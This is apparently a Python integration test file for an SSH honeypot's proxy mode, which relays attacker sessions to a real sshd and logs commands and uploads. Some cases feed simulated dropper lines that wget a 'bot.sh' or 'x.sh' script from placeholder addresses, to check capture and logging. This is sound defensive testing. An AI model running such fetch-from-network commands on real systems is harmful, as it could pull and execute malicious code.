"""
cases_sshproxy.py - SSH proxy mode (issue 14): an ssh service with a `backend` relays logged-in
sessions to a real OpenSSH sshd and logs them as the emulation would.

Each case builds a network namespace joined to the host by a veth pair with private addresses,
and runs Debian's sshd (openssh-server) inside it with its own host key and configuration,
accepting a test user created for the case.  hanipo listens on 127.0.0.1 on the host and proxies
to the namespace's address.  The namespace shares the file system, so a case can prove that
output came from the backend (a file with a random token only the backend's user reads) and
that what the attacker did happened on the backend (a file it created, an upload it sent).

Clients: OpenSSH ssh and scp (both scp protocols) through sshpass, paramiko for a pty session.
"""
import hashlib
import os
import random
import shutil
import socket
import subprocess
import tempfile
import time
import uuid

from harness import T, Service, Skip, by, wait_for
from cases import one, stop_and_read

ALL = []


def case(fn):
    ALL.append((fn.__name__, fn))
    return fn


SSH_OPTS = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
            "-o", "LogLevel=ERROR", "-o", "ConnectTimeout=10", "-o", "NumberOfPasswordPrompts=1"]
PASSWORD = "Winter2024!"          # what the attacker types (the default userdb takes it)
BK_PASSWORD = "Bk-%s" % uuid.uuid4().hex[:12]


def need(*tools):
    for t in tools:
        if not shutil.which(t) and not os.path.exists(t):
            raise Skip("%s is not installed" % t)


def need_root():
    if os.geteuid() != 0:
        raise Skip("needs root (network namespaces, sshd)")


class Backend:
    """A namespace with a veth link to the host, a test user, and (started on demand) sshd in it."""

    def __init__(self, ctx):
        need_root()
        need("ip", "/usr/sbin/sshd", "ssh-keygen", "useradd", "chpasswd")
        tag = "%d%s" % (os.getpid() % 10000, uuid.uuid4().hex[:4])
        self.ns = "hanipo-spx-" + tag
        self.veth = "hpx" + tag            # <= 15 characters
        n = random.randint(1, 250)
        m = random.randint(0, 63) * 4
        self.host_addr = "10.%d.%d.%d" % (200 + n % 50, n, m + 1)
        self.addr = "10.%d.%d.%d" % (200 + n % 50, n, m + 2)
        self.user = "hpx" + tag
        self.dir = tempfile.mkdtemp(prefix="hanipo-it-sshd-")
        os.chmod(self.dir, 0o755)
        self.procs = []
        ctx.defer(self.cleanup)
        r = subprocess.run(["ip", "netns", "add", self.ns], capture_output=True)
        if r.returncode != 0:
            raise Skip("cannot create a network namespace: %s" % r.stderr.decode().strip())
        self._ns_made = True
        for cmd in (["ip", "link", "add", self.veth, "type", "veth", "peer", "name", self.veth + "b"],
                    ["ip", "link", "set", self.veth + "b", "netns", self.ns],
                    ["ip", "addr", "add", self.host_addr + "/30", "dev", self.veth],
                    ["ip", "link", "set", self.veth, "up"]):
            subprocess.run(cmd, check=True, capture_output=True)
        for cmd in (["ip", "link", "set", "lo", "up"],
                    ["ip", "addr", "add", self.addr + "/30", "dev", self.veth + "b"],
                    ["ip", "link", "set", self.veth + "b", "up"]):
            subprocess.run(["ip", "netns", "exec", self.ns] + cmd, check=True, capture_output=True)
        subprocess.run(["useradd", "-m", "-s", "/bin/bash", self.user], check=True, capture_output=True)
        self._user_made = True
        subprocess.run(["chpasswd"], input=("%s:%s\n" % (self.user, BK_PASSWORD)).encode(), check=True,
                       capture_output=True)
        self.home = os.path.expanduser("~" + self.user)
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(self.dir, "hostkey")],
                       check=True, capture_output=True)
        os.makedirs("/run/sshd", exist_ok=True)

    def start_sshd(self, port=22):
        conf = os.path.join(self.dir, "sshd_config_%d" % port)
        with open(conf, "w") as f:
            f.write("\n".join([
                "Port %d" % port, "ListenAddress %s" % self.addr,
                "HostKey %s" % os.path.join(self.dir, "hostkey"),
                "PermitRootLogin no", "PasswordAuthentication yes", "KbdInteractiveAuthentication no",
                "UsePAM no", "StrictModes no", "PidFile none", "PrintMotd no", "LogLevel INFO",
                "AllowUsers %s" % self.user,
                "Subsystem sftp /usr/lib/openssh/sftp-server", ""]))
        log = open(os.path.join(self.dir, "sshd_%d.log" % port), "wb")
        p = subprocess.Popen(["ip", "netns", "exec", self.ns, "/usr/sbin/sshd", "-D", "-e", "-f", conf],
                             stdout=log, stderr=log)
        self.procs.append(p)
        self.wait_port(port)
        return p

    def silent_listener(self, port):
        """Accepts TCP and never says a word (a hung backend)."""
        code = ("import socket,time\ns=socket.socket()\ns.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
                "s.bind(('%s',%d))\ns.listen(8)\nc=[]\nwhile True:\n c.append(s.accept()[0])\n" % (self.addr, port))
        p = subprocess.Popen(["ip", "netns", "exec", self.ns, "/usr/bin/python3", "-c", code],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.procs.append(p)
        self.wait_port(port)
        return p

    def wait_port(self, port):
        def up():
            try:
                socket.create_connection((self.addr, port), timeout=1).close()
                return True
            except OSError:
                return False
        wait_for(up, T(15), what="backend %s:%d listening" % (self.addr, port))

    def stop(self, p):
        p.terminate()
        try:
            p.wait(timeout=10)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()

    def cleanup(self):
        for p in self.procs:
            if p.poll() is None:
                self.stop(p)
        if getattr(self, "_ns_made", False):
            subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)
            subprocess.run(["ip", "link", "del", self.veth], capture_output=True)
        if getattr(self, "_user_made", False):
            subprocess.run(["userdel", "-r", "-f", self.user], capture_output=True)
        shutil.rmtree(self.dir, ignore_errors=True)

    def service(self, name="ssh", port=22, password=None, **opts):
        opts.setdefault("auth_fail_delay", "0")
        return Service(name, protocol="ssh", backend="%s:%d" % (self.addr, port), backend_user=self.user,
                       backend_password=password or BK_PASSWORD, **opts)


def ssh(port, args, extra=(), timeout=30, stdin=None):
    need("ssh", "sshpass")
    cmd = ["sshpass", "-p", PASSWORD, "ssh"] + SSH_OPTS + ["-p", str(port)] + list(extra) + \
        ["root@127.0.0.1"] + list(args)
    return subprocess.run(cmd, capture_output=True, timeout=T(timeout),
                          input=stdin, stdin=None if stdin is not None else subprocess.DEVNULL)


def scp(port, src, dst, legacy):
    need("scp", "sshpass")
    cmd = ["sshpass", "-p", PASSWORD, "scp"] + (["-O"] if legacy else []) + SSH_OPTS + \
        ["-P", str(port), src, "root@127.0.0.1:" + dst]
    return subprocess.run(cmd, capture_output=True, timeout=T(60), stdin=subprocess.DEVNULL)


def secret_file(bk):
    """A file with a random token that only the backend's user can read."""
    token = "hpx-secret-" + uuid.uuid4().hex
    path = os.path.join(bk.home, "secret.txt")
    with open(path, "w") as f:
        f.write(token + "\n")
    subprocess.run(["chown", bk.user, path], check=True)
    os.chmod(path, 0o600)
    return token


def hostname_of(d):
    with open(os.path.join(d.data_dir, "identity")) as f:
        for line in f:
            if line.startswith("hostname="):
                return line.strip().split("=", 1)[1]
    raise AssertionError("no hostname= in identity")


# ---- cases --------------------------------------------------------------------------------

@case
def sshproxy_exec_runs_on_backend(ctx):
    """exec requests run on the real sshd: its output, its exit status, its stderr, its file system;
    every command is a command.input; login events unchanged; the backend's host key logged once."""
    bk = Backend(ctx)
    bk.start_sshd()
    token = secret_file(bk)
    d = ctx.daemon("spx-exec", [bk.service()])
    d.start(timeout=T(20))
    port = d.svc("ssh").port
    r = ssh(port, ["cat secret.txt; id -un"])
    out = r.stdout.decode()
    assert r.returncode == 0 and token in out and bk.user in out, (r.returncode, out, r.stderr)
    mark = "/tmp/hpx-created-" + uuid.uuid4().hex
    ctx.defer(lambda: os.path.exists(mark) and os.unlink(mark))
    r = ssh(port, ["touch %s && echo to-stderr >&2; exit 7" % mark])
    assert r.returncode == 7, (r.returncode, r.stdout, r.stderr)
    assert r.stderr.decode().strip() == "to-stderr" and r.stdout == b"", (r.stdout, r.stderr)
    assert os.path.exists(mark), "the command did not run on the backend"
    st = os.stat(mark)
    assert st.st_uid == int(subprocess.check_output(["id", "-u", bk.user])), "created by the wrong user"
    # stdin relayed to a command and its output back, larger than one window
    blob = os.urandom(300000)
    r = ssh(port, ["sha256sum"], stdin=blob)
    assert r.returncode == 0 and hashlib.sha256(blob).hexdigest() in r.stdout.decode(), (r.stdout, r.stderr)
    r = ssh(port, ["head -c 2000000 /dev/zero"])
    assert r.returncode == 0 and r.stdout == b"\0" * 2000000, len(r.stdout)
    # a URL in a proxied command goes to the capture pipeline (downloads are off in tests: logged)
    url_cmd = "wget -q -T 1 -t 1 http://198.51.100.9/bot.sh -O /dev/null; true"
    r = ssh(port, [url_cmd])
    assert r.returncode == 0, r.stderr
    evs = stop_and_read(d)
    dl = by(evs, "session.file_download.failed")
    assert [(e["url"], e["found_in"], e["reason"]) for e in dl] == [
        ("http://198.51.100.9/bot.sh", "ssh-proxy", "disabled")], dl
    cmds = [e["input"] for e in by(evs, "command.input")]
    assert cmds == ["cat secret.txt; id -un", "touch %s && echo to-stderr >&2; exit 7" % mark, "sha256sum",
                    "head -c 2000000 /dev/zero", url_cmd], cmds
    assert all(e.get("proxied") is True for e in by(evs, "command.input"))
    assert len(by(evs, "login.success")) == 5
    pcs = by(evs, "proxy.connect")
    assert len(pcs) == 5 and all(e["result"] == "ok" and e["backend"] == "%s:22" % bk.addr for e in pcs), pcs
    closed = by(evs, "proxy.closed")
    assert len(closed) == 5 and closed[2]["bytes_to_backend"] >= 300000, closed
    assert closed[3]["bytes_from_backend"] >= 2000000, closed
    assert not by(evs, "proxy.fallback"), by(evs, "proxy.fallback")
    hk = one(evs, "proxy.hostkey")
    fp = subprocess.check_output(["ssh-keygen", "-l", "-E", "sha256", "-f",
                                  os.path.join(bk.dir, "hostkey.pub")]).decode().split()[1]
    assert hk["fingerprint"] == fp and hk["backend"] == "%s:22" % bk.addr, (hk, fp)
    # the client saw hanipo's host key, never the backend's: the attacker talks to hanipo
    for e in by(evs, "client.kex"):
        assert e.get("hassh"), e


@case
def sshproxy_pty_lines_logged(ctx):
    """A paramiko pty session: typed lines reach the backend's bash (window size included, and
    resized), each line is one command.input, and the session is recorded as asciicast."""
    try:
        import paramiko
    except ImportError:
        raise Skip("python3-paramiko is not installed")
    bk = Backend(ctx)
    bk.start_sshd()
    token = secret_file(bk)
    d = ctx.daemon("spx-pty", [bk.service()])
    d.start(timeout=T(20))
    cl = paramiko.SSHClient()
    cl.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    cl.connect("127.0.0.1", port=d.svc("ssh").port, username="root", password=PASSWORD,
               allow_agent=False, look_for_keys=False, timeout=T(15))
    ch = cl.invoke_shell(term="xterm", width=101, height=33)
    buf = [b""]

    def read_until(s, timeout=15):
        def got():
            while ch.recv_ready():
                buf[0] += ch.recv(65536)
            return s.encode() in buf[0]
        wait_for(got, T(timeout), what="%r in the pty output (have %r)" % (s, buf[0][-300:]))

    read_until("$ ")
    lines = ["stty size", "cat secret.txt", "echo typed-$((6*7))"]
    ch.send("stty size\r")
    read_until("33 101")
    ch.send("cat secret.txt\r")
    read_until(token)
    # a line edited with backspace: the command is what bash runs
    ch.send("echo typed-$((6*7X\x7f))\r")
    read_until("typed-42")
    ch.resize_pty(width=120, height=40)
    time.sleep(0.3)
    ch.send("stty size\r")
    read_until("40 120")
    lines.append("stty size")
    ch.send("exit 3\r")
    lines.append("exit 3")
    wait_for(ch.exit_status_ready, T(15), what="exit status")
    assert ch.recv_exit_status() == 3
    cl.close()
    evs = stop_and_read(d)
    cmds = [e["input"] for e in by(evs, "command.input")]
    assert cmds == lines, cmds
    size = one(evs, "client.size")
    assert size["width"] == 101 and size["height"] == 33, size
    lc = one(evs, "log.closed")
    path = lc["ttylog"]
    with open(path, encoding="utf-8") as f:
        cast = f.read()
    assert token in cast and "typed-42" in cast, cast[-2000:]


@case
def sshproxy_uploads_captured(ctx):
    """scp over SFTP (OpenSSH 9's default) and over the legacy protocol (scp -O): the file lands on
    the backend intact AND hanipo stores it by SHA-256 with session.file_upload."""
    bk = Backend(ctx)
    bk.start_sshd()
    d = ctx.daemon("spx-upload", [bk.service()])
    d.start(timeout=T(20))
    port = d.svc("ssh").port
    files = {}
    for legacy in (False, True):
        data = os.urandom(150000) + (b"#!/bin/sh\nwget http://198.51.100.7/x.sh\n" if legacy else b"")
        src = os.path.join(d.tmp, "up-%d.bin" % legacy)
        with open(src, "wb") as f:
            f.write(data)
        name = "dropped-%s.bin" % ("scp" if legacy else "sftp")
        r = scp(port, src, name, legacy)
        assert r.returncode == 0, (legacy, r.returncode, r.stderr)
        landed = os.path.join(bk.home, name)
        with open(landed, "rb") as f:
            assert f.read() == data, "the backend got a different file"
        files[hashlib.sha256(data).hexdigest()] = ("scp" if legacy else "sftp", name)
    # a file past the 8 MiB capture cap: the backend gets all of it, hanipo keeps the first 8 MiB
    big = os.urandom(20 * 1000 * 1000)
    src = os.path.join(d.tmp, "big.bin")
    with open(src, "wb") as f:
        f.write(big)
    r = scp(port, src, "big.bin", False)
    assert r.returncode == 0, r.stderr
    with open(os.path.join(bk.home, "big.bin"), "rb") as f:
        assert hashlib.sha256(f.read()).hexdigest() == hashlib.sha256(big).hexdigest()
    os.unlink(src)
    evs = stop_and_read(d)
    ups = by(evs, "session.file_upload")
    cut = [e for e in ups if e["filename"].endswith("big.bin")]
    assert len(cut) == 1 and cut[0]["truncated"] is True and cut[0]["size"] == len(big) and \
        cut[0]["stored_size"] == 8 * 1024 * 1024, cut
    assert cut[0]["shasum"] == hashlib.sha256(big[:8 * 1024 * 1024]).hexdigest(), cut
    ups = [e for e in ups if e not in cut]
    assert sorted(e["shasum"] for e in ups) == sorted(files), ups
    for e in ups:
        detail, name = files[e["shasum"]]
        assert e["protocol_detail"] == detail and e["filename"].endswith(name), e
        assert e["outfile"] == "payloads/" + e["shasum"], e
        with open(os.path.join(d.data_dir, e["outfile"]), "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == e["shasum"]
    cmds = [e["input"] for e in by(evs, "command.input")]
    assert any(c.startswith("scp ") and "-t" in c for c in cmds), cmds
    assert by(evs, "client.subsystem", subsystem="sftp"), "the sftp subsystem request was not logged"


@case
def sshproxy_fallback_to_emulation(ctx):
    """Backend refused, backend login refused, backend silent, backend stopped mid-life: the
    login still works, the emulated shell answers, and proxy.fallback says why."""
    bk = Backend(ctx)
    sshd = bk.start_sshd()
    bk.silent_listener(2201)
    svcs = [bk.service("ssh_up"), bk.service("ssh_down", port=2200), bk.service("ssh_badpw", password="wrong"),
            bk.service("ssh_silent", port=2201, backend_timeout="1500ms"),
            bk.service("ssh_budget", backend_budget="1")]
    d = ctx.daemon("spx-fallback", svcs)
    d.start(timeout=T(20))
    emu_host = hostname_of(d)
    r = ssh(d.svc("ssh_up").port, ["uname -n"])
    real = r.stdout.decode().strip()
    assert r.returncode == 0 and real == socket.gethostname(), (real, r.stderr)
    for name in ("ssh_down", "ssh_badpw", "ssh_silent"):
        t0 = time.time()
        r = ssh(d.svc(name).port, ["uname -n"])
        assert r.returncode == 0 and r.stdout.decode().strip() == emu_host, (name, r.stdout, r.stderr)
        if name == "ssh_silent":
            assert time.time() - t0 < T(10), "the silent backend held the login too long"
    # the per-source budget: the first session is proxied, the second is served by the emulation
    outs = [ssh(d.svc("ssh_budget").port, ["uname -n"]) for _ in range(2)]
    assert [r.stdout.decode().strip() for r in outs] == [real, emu_host], outs
    bk.stop(sshd)                               # the backend goes down while hanipo runs
    r = ssh(d.svc("ssh_up").port, ["uname -n"])
    assert r.returncode == 0 and r.stdout.decode().strip() == emu_host, (r.stdout, r.stderr)
    # an interactive session falls back too (and is logged as the emulation logs it)
    r = ssh(d.svc("ssh_up").port, [], extra=["-tt"], stdin=b"echo fallback-$((1+1))\nexit\n")
    assert b"fallback-2" in r.stdout, r.stdout
    evs = stop_and_read(d)
    fb = by(evs, "proxy.fallback")
    budget = [e for e in fb if e["service"] == "ssh_budget"]
    assert len(budget) == 1 and budget[0]["reason"] == "budget", budget
    fb = [e for e in fb if e["service"] != "ssh_budget"]
    reasons = {e["service"]: e["reason"] for e in fb[:3]}
    assert reasons == {"ssh_down": "connect-refused", "ssh_badpw": "auth-failed",
                       "ssh_silent": "connect-timeout"}, fb
    assert [e["service"] for e in fb[3:]] == ["ssh_up", "ssh_up"] and \
        all(e["reason"] == "connect-refused" for e in fb[3:]), fb
    for e in fb:
        assert e["backend"].startswith(bk.addr + ":") and e["fallback"] == "ssh", e
    # proxy.connect tells the same story, as for the TCP relay: ok once, then the failures
    results = [(e["service"], e["result"]) for e in by(evs, "proxy.connect") if e["service"] != "ssh_budget"]
    assert results[0] == ("ssh_up", "ok") and len(results) == 6, results
    assert [r for s, r in results[1:]] == [e["reason"] for e in fb], (results, fb)
    cmds = by(evs, "command.input")
    emulated = [e for e in cmds if not e.get("proxied")]
    assert len(emulated) == 7 and all("commands" in e for e in emulated), cmds
    assert "echo fallback-$((1+1))" in [e["input"] for e in emulated], cmds


@case
def sshproxy_slow_reader_backpressure(ctx):
    """30 MB from the backend to a client that reads slowly: hanipo stops reading the backend while
    the client is behind instead of queueing (or dropping) without bound; every byte arrives."""
    try:
        import paramiko
    except ImportError:
        raise Skip("python3-paramiko is not installed")
    bk = Backend(ctx)
    bk.start_sshd()
    d = ctx.daemon("spx-slow", [bk.service()])
    d.start(timeout=T(20))
    cl = paramiko.SSHClient()
    cl.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    cl.connect("127.0.0.1", port=d.svc("ssh").port, username="root", password=PASSWORD,
               allow_agent=False, look_for_keys=False, timeout=T(15))
    ch = cl.get_transport().open_session()
    size = 30 * 1000 * 1000
    ch.exec_command("head -c %d /dev/urandom | tee big.bin" % size)
    h, n, t0 = hashlib.sha256(), 0, time.time()
    ch.settimeout(T(60))
    while True:
        data = ch.recv(65536)
        if not data:
            break
        h.update(data)
        n += len(data)
        if time.time() - t0 < 4:
            time.sleep(0.02)                   # a slow client for the first seconds
    status = ch.recv_exit_status()
    cl.close()
    with open(os.path.join(bk.home, "big.bin"), "rb") as f:
        want = hashlib.sha256(f.read()).hexdigest()
    assert status == 0 and n == size and h.hexdigest() == want, (status, n)
    stop_and_read(d)
    assert "does not read" not in d.stderr(), d.stderr()[-2000:]
